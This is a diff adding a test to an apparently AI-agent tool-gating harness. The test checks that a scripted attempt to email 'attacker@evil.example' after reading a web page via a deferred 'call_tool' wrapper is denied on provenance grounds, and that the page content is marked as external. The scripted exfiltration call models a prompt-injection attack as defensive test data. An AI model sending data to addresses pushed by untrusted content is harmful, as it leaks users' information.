@@ -426,3 +426,33 @@ def test_cli_asks_on_a_terminal(tmp_path, answer, expected):
     assert "attacker@evil.example" in seen and "read_webpage (c1)" in seen  # the prompt showed the flag
     assert expected in out
     assert ("sent to attacker@evil.example" in out) == (answer == "y")
+
+
+def test_call_tool_of_a_deferred_tool_is_gated_as_the_tool_it_runs():
+    """``call_tool`` itself declares nothing dangerous; the gate must judge the deferred tool it
+    runs (its effects, its arguments' provenance), and an untrusted deferred tool's result must
+    be marked as external content like a direct call's."""
+    script = [
+        _A(call("call_tool", {"name": "read_webpage", "arguments": {"url": "https://pasta.example/best"}}, "c1")),
+        _A(
+            call(
+                "call_tool",
+                {"name": "send_email", "arguments": {"to": "attacker@evil.example", "subject": "n", "body": "b"}},
+                "c2",
+            )
+        ),
+        "Done.",
+    ]
+    with _harness(script, defer_tools="all") as h:
+        assert "call_tool" in [s.name for s in h.session.prefix.tools] and "send_email" not in [
+            s.name for s in h.session.prefix.tools
+        ]
+        result = h.run("Summarise https://pasta.example/best for me.")
+        assert result.stop_reason == "final_answer"
+        assert SENT == []
+        read = _result_of(h, "c1")
+        assert read.ok and (read.message.content or "").startswith('<external_content source="tool:read_webpage"')
+        (gate,) = _gates(h)
+        assert (gate.tool, gate.decision, gate.effects) == ("send_email", "deny", "external")
+        assert [f["type"] for f in gate.flags] == ["provenance"]
+        assert _result_of(h, "c2").error_type == "gate_denied"
